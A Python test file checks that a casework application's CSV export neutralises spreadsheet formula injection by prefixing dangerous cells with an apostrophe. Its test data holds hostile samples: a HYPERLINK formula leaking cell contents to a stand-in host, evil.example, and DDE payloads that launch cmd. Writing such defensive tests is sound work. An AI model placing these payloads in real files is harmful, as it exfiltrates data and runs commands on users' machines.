"""Exports: text a complainant or an administrator typed never runs as a spreadsheet formula
(OWASP "CSV injection"; docs/security.md "Exports")."""

import csv
import io

import pytest

from casework.spreadsheet import spreadsheet_cell
from tests.conftest import register


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("http://example.com/?q="&A1,"点此查看")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
    "＝1+1", "＠SUM(1)",
])
def test_a_cell_that_would_start_a_formula_is_kept_as_text(typed):
    assert spreadsheet_cell(typed) == "'" + typed


@pytest.mark.parametrize("typed", ["村道损坏", "2026-08-01", "", " =1", "A=1", "王-五"])
def test_other_cells_are_left_as_they_are(typed):
    assert spreadsheet_cell(typed) == typed


def test_the_csv_export_neutralises_a_formula_in_a_title_a_category_and_a_unit_name(client, world):
    # given: a case whose title and category were typed as formulas, at a unit whose name is one
    title = '=HYPERLINK("http://evil.example/"&A1,"详情")'
    category = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.town_a_office.name = "-2+3+cmd|' /C notepad'!A0"
    world.town_a_office.save(update_fields=["name"])
    case = register(world, title=title, category=category).case
    client.force_login(world.clerk_a)
    # when
    r = client.get("/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode("utf-8-sig"))))
    # then: the case's row carries each of them as text, the rest unchanged
    row = next(row for row in rows if row[0] == case.number)
    header = rows[0]
    assert row[header.index("标题")] == "'" + title
    assert row[header.index("事项分类")] == "'" + category
    assert row[header.index("当前单位")] == "'" + world.town_a_office.name
    assert row[header.index("收到日期")] == case.received_on.isoformat()
    assert not any(cell.startswith(("=", "+", "-", "@")) for r_ in rows for cell in r_)
